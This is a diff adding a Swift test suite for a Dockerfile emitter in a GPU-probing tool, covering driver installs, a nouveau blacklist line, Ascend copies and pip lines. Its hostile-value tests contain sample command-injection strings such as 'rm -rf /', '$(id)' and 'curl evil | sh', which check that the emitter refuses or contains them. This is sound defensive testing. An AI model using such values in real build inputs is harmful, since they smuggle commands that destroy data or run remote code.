@@ -1,0 +1,329 @@
+import Foundation
+import Testing
+
+@testable import GPUProbe
+
+/// The Dockerfile instructions for the packaging guide's hosts, from plans the real matcher made
+/// over real `.run` archives.
+@Suite struct DockerfileEmitterTests {
+    static func plan(
+        _ report: HostReport,
+        installers versions: [String] = [],
+        torch: String? = nil
+    ) throws -> Plan {
+        let folder = FileManager.default.temporaryDirectory
+            .appendingPathComponent("gpuprobe-emit-\(UUID().uuidString)")
+        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
+        defer { try? FileManager.default.removeItem(at: folder) }
+        let installers = try versions.map { version in
+            try DriverInstallerReader.read(
+                path: MakeselfInstaller.build(version: version, in: folder)
+            )
+        }
+        return Matcher.plan(
+            report: report,
+            installers: installers,
+            catalog: .embedded,
+            request: TorchRequest(torch: torch),
+            inputs: PlanInputs(
+                host: "test",
+                drivers: "Drivers",
+                catalog: "embedded",
+                catalogUpdated: TorchCatalog.embedded.updated
+            )
+        )
+    }
+
+    static let installerPath = "Drivers/NVIDIA-Linux-x86_64-535.171.04.run"
+
+    @Test func exactDriverAndTorchForTheGuidesNvidiaHost() throws {
+        let report = try GuideHosts.nvidia()
+        let plan = try Self.plan(report, installers: ["535.171.04", "550.135", "535.161.08"])
+        #expect(plan.driver.status == .exact)
+        let emitted = try DockerfileEmitter.emit(
+            plan: plan,
+            report: report,
+            request: DockerfileRequest(base: "ubuntu:22.04", installerPath: Self.installerPath)
+        )
+        let lines = emitted.text.split(separator: "\n", omittingEmptySubsequences: false)
+        // 2.14.0+cu126 is the newest wheel for the A6000 (sm_86); CUDA 12.6 over the driver's
+        // 12.2 is minor-version compatibility, and the Dockerfile says so.
+        #expect(emitted.warnings.count == 1)
+        #expect(emitted.warnings.allSatisfy { $0.contains("minor-version compatibility") })
+        #expect(lines.first?.hasPrefix("# Written by gpuprobe") == true)
+        #expect(lines.contains("FROM ubuntu:22.04"))
+        #expect(
+            lines.contains(
+                "COPY Drivers/NVIDIA-Linux-x86_64-535.171.04.run /root/NVIDIA-Linux-x86_64-535.171.04.run"
+            )
+        )
+        #expect(
+            lines.contains(
+                "    && /root/NVIDIA-Linux-x86_64-535.171.04.run --silent --no-kernel-module "
+                    + "--no-x-check --no-nouveau-check"
+            )
+        )
+        #expect(!emitted.text.contains("echo -e "))
+        #expect(!emitted.text.contains("WARNING: this installs"))
+        let pick = try #require(plan.torch.pick)
+        #expect(
+            lines.contains(
+                "RUN python3 -m pip install --no-cache-dir " + pick.packages.joined(separator: " ")
+                    + " --index-url " + pick.indexURL
+            )
+        )
+        #expect(emitted.text.contains("NVIDIA RTX A6000"))
+        #expect(emitted.text.hasSuffix("\n"))
+    }
+
+    @Test func aLowerInstallerIsWrittenWithAWarningThatSaysWhatBreaks() throws {
+        let report = try GuideHosts.nvidia()
+        let plan = try Self.plan(report, installers: ["535.161.08", "550.135"])
+        #expect(plan.driver.status == .mismatch)
+        let emitted = try DockerfileEmitter.emit(
+            plan: plan,
+            report: report,
+            request: DockerfileRequest(
+                installerPath: "Drivers/NVIDIA-Linux-x86_64-535.161.08.run"
+            )
+        )
+        #expect(emitted.warnings.count == 2)
+        let warning = try #require(emitted.warnings.first)
+        #expect(warning.contains("535.161.08"))
+        #expect(warning.contains("535.171.04"))
+        #expect(warning.contains("Driver/library version mismatch"))
+        #expect(emitted.text.contains("# WARNING: this installs the 535.161.08 userspace driver"))
+        #expect(!emitted.text.split(separator: "\n").contains { $0.hasPrefix("FROM") })
+        #expect(emitted.text.contains("# A fragment: paste it after the FROM line"))
+    }
+
+    /// Runs the emitted blacklist line with the system's /bin/sh (dash on Debian) into a file
+    /// and reads back exactly the two lines; the guide's `echo -e` version would not.
+    @Test func theBlacklistLineWritesExactlyTwoLinesUnderDash() throws {
+        let report = try GuideHosts.nvidia()
+        let plan = try Self.plan(report, installers: ["535.171.04"])
+        let text = try DockerfileEmitter.emit(
+            plan: plan,
+            report: report,
+            request: DockerfileRequest(installerPath: Self.installerPath)
+        ).text
+        let line = try #require(
+            text.split(separator: "\n").first { $0.contains("&& printf") }
+        )
+        let folder = FileManager.default.temporaryDirectory
+            .appendingPathComponent("gpuprobe-dash-\(UUID().uuidString)")
+        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
+        defer { try? FileManager.default.removeItem(at: folder) }
+        let target = folder.appendingPathComponent("blacklist.conf").path
+        let command = String(
+            String(line).replacing(DockerfileEmitter.blacklistPath, with: target)
+                .drop { $0 == " " || $0 == "&" }
+        ).replacing(" \\", with: "")
+        try FakeInstallers.run(["sh", "-c", command])
+        let written = String(
+            decoding: try Data(contentsOf: URL(fileURLWithPath: target)),
+            as: UTF8.self
+        )
+        #expect(written == "blacklist nouveau\noptions nouveau modeset=0\n")
+        // The guide's line, for contrast: dash's echo keeps the "-e".
+        try FakeInstallers.run([
+            "sh", "-c", "echo -e \"blacklist nouveau\\noptions nouveau modeset=0\" > \(target)",
+        ])
+        let guide = String(
+            decoding: try Data(contentsOf: URL(fileURLWithPath: target)),
+            as: UTF8.self
+        )
+        #expect(guide.hasPrefix("-e "))
+    }
+
+    @Test(arguments: [false, true])
+    func ascendLayersCopyTheHostFiles(vnpu: Bool) throws {
+        let report = try GuideHosts.ascend(vnpu: vnpu)
+        let plan = try Self.plan(report)
+        let emitted = try DockerfileEmitter.emit(
+            plan: plan,
+            report: report,
+            request: DockerfileRequest(base: "ubuntu:22.04")
+        )
+        let lines = emitted.text.split(separator: "\n").map(String.init)
+        #expect(
+            lines.contains(
+                "ENV LD_LIBRARY_PATH=/usr/local/Ascend/driver/lib64/common:"
+                    + "/usr/local/Ascend/driver/lib64/driver${LD_LIBRARY_PATH:+:${LD_LIBRARY_PATH}}"
+            )
+        )
+        let copies = lines.filter { $0.hasPrefix("COPY ") }
+        var expected = [
+            "COPY ascend/dcmi /usr/local/dcmi",
+            "COPY ascend/npu-smi /usr/local/bin/npu-smi",
+            "COPY ascend/common /usr/local/Ascend/driver/lib64/common",
+            "COPY ascend/driver /usr/local/Ascend/driver/lib64/driver",
+            "COPY ascend/ascend_install.info /etc/ascend_install.info",
+            "COPY ascend/version.info /usr/local/Ascend/driver/version.info",
+        ]
+        if vnpu { expected.insert("COPY ascend/vnpu.cfg /etc/vnpu.cfg", at: 5) }
+        #expect(copies == expected)
+        #expect(lines.contains("RUN chmod 0755 /usr/local/bin/npu-smi"))
+        #expect(!emitted.text.contains("pip install"))
+        #expect(!emitted.text.contains("NVIDIA-Linux"))
+    }
+
+    @Test func anIncompletePlanWritesNothing() throws {
+        let report = try GuideHosts.nvidia()
+        let plan = try Self.plan(report, installers: ["550.135"])
+        #expect(plan.driver.status == .none)
+        #expect {
+            try DockerfileEmitter.emit(
+                plan: plan,
+                report: report,
+                request: DockerfileRequest(installerPath: Self.installerPath)
+            )
+        } throws: { error in
+            guard case .planIncomplete(let text) = error as? EmitError else { return false }
+            return text.contains("no Dockerfile was written") && !text.contains("\n")
+        }
+    }
+
+    @Test func aHostWithNothingToInstallIsAnError() throws {
+        var report = try GuideHosts.nvidia()
+        report.nvidia = nil
+        var plan = try Self.plan(report)
+        plan.torch = TorchPlan(status: .none)
+        plan.complete = true
+        #expect(throws: EmitError.self) {
+            try DockerfileEmitter.emit(plan: plan, report: report, request: DockerfileRequest())
+        }
+    }
+
+    // MARK: Hostile values
+
+    static let hostilePaths = [
+        "Drivers/$(id).run", "Drivers/`id`.run", "Drivers/a\nRUN rm -rf /.run",
+        "Drivers/it's.run", "Drivers/\"x\".run", "../outside/NVIDIA.run", "/abs/NVIDIA.run",
+        "Drivers/a\\b.run", "Drivers/${HOME}.run", "Drivers/a\rb.run", "",
+    ]
+
+    @Test(arguments: hostilePaths)
+    func hostileInstallerPathsAreRefused(path: String) throws {
+        let report = try GuideHosts.nvidia()
+        let plan = try Self.plan(report, installers: ["535.171.04"])
+        #expect {
+            try DockerfileEmitter.emit(
+                plan: plan,
+                report: report,
+                request: DockerfileRequest(installerPath: path)
+            )
+        } throws: { error in
+            guard case .unsafe(let what, _, _) = error as? EmitError else { return false }
+            let line = (error as? EmitError)?.description ?? ""
+            return what == "the installer path" && !line.contains("\n") && !line.contains("\r")
+        }
+    }
+
+    @Test func aPathWithSpacesIsCopiedInJSONForm() throws {
+        let report = try GuideHosts.nvidia()
+        let plan = try Self.plan(report, installers: ["535.171.04"])
+        let text = try DockerfileEmitter.emit(
+            plan: plan,
+            report: report,
+            request: DockerfileRequest(
+                installerPath: "My Drivers/NVIDIA-Linux-x86_64-535.171.04.run"
+            )
+        ).text
+        #expect(
+            text.contains(
+                #"COPY ["My Drivers/NVIDIA-Linux-x86_64-535.171.04.run", "/root/NVIDIA-Linux-x86_64-535.171.04.run"]"#
+            )
+        )
+    }
+
+    @Test(arguments: ["ubuntu 22.04", "ubuntu:22.04\nRUN id", "$(id)", "-bad", "a\"b", ""])
+    func hostileBaseImagesAreRefused(base: String) throws {
+        let report = try GuideHosts.nvidia()
+        let plan = try Self.plan(report, installers: ["535.171.04"])
+        #expect(throws: EmitError.self) {
+            try DockerfileEmitter.emit(
+                plan: plan,
+                report: report,
+                request: DockerfileRequest(base: base, installerPath: Self.installerPath)
+            )
+        }
+    }
+
+    @Test(arguments: ["535.171.04; rm -rf /", "not-a-version", "535.171.04\n", "$(id)"])
+    func aChosenVersionThatIsNotAVersionIsRefused(version: String) throws {
+        let report = try GuideHosts.nvidia()
+        var plan = try Self.plan(report, installers: ["535.171.04"])
+        plan.driver.chosenVersion = version
+        #expect {
+            try DockerfileEmitter.emit(
+                plan: plan,
+                report: report,
+                request: DockerfileRequest(installerPath: Self.installerPath)
+            )
+        } throws: { error in
+            guard case .unsafe(let what, _, _) = error as? EmitError else { return false }
+            return what == "the installer version"
+        }
+    }
+
+    @Test func hostileTorchValuesAreRefused() throws {
+        let report = try GuideHosts.nvidia()
+        let plan = try Self.plan(report, installers: ["535.171.04"])
+        let pick = try #require(plan.torch.pick)
+        let changes: [(inout TorchPick) -> Void] = [
+            { $0.torch = "2.7.1 && curl evil | sh" },
+            { $0.torchvision = "0.22.1'" },
+            { $0.variant = "cu128;id" },
+            { $0.indexURL = "https://example.org/$(id)" },
+            { $0.indexURL = "https://example.org/\nRUN id" },
+        ]
+        for change in changes {
+            var bad = plan
+            var changed = pick
+            change(&changed)
+            bad.torch.pick = changed
+            #expect(throws: EmitError.self) {
+                try DockerfileEmitter.emit(
+                    plan: bad,
+                    report: report,
+                    request: DockerfileRequest(installerPath: Self.installerPath)
+                )
+            }
+        }
+    }
+
+    /// Host names and GPU names come from the host's JSON: in a comment they must stay on the
+    /// comment's line.
+    @Test func hostTextCannotBreakOutOfItsComment() throws {
+        var report = try GuideHosts.nvidia()
+        report.host.hostname = "evil\nRUN curl http://x | sh\n#"
+        let plan = try Self.plan(report, installers: ["535.171.04"])
+        var hostile = plan
+        hostile.host.gpus[0].name = "GPU\r\nRUN id\u{2028}"
+        let text = try DockerfileEmitter.emit(
+            plan: hostile,
+            report: report,
+            request: DockerfileRequest(installerPath: Self.installerPath)
+        ).text
+        #expect(!text.contains("\nRUN curl"))
+        #expect(!text.contains("\nRUN id"))
+        #expect(!text.contains("\r"))
+        #expect(!text.contains("\u{2028}"))
+        for line in text.split(separator: "\n") where !line.hasPrefix("#") {
+            #expect(
+                ["COPY", "RUN", "ENV", "FROM", " "].contains { line.hasPrefix($0) },
+                "\(line)"
+            )
+        }
+    }
+
+    @Test func shellQuotingRoundTripsThroughTheShell() throws {
+        for word in ["plain-1.0", "it's", "a b", "$(id)", "`id`", "\"q\"", "", "-e", "x;y"] {
+            let echoed = try FakeInstallers.output([
+                "sh", "-c", "printf %s " + ShellWord.quote(word),
+            ])
+            #expect(echoed == word, "\(word)")
+        }
+    }
+}
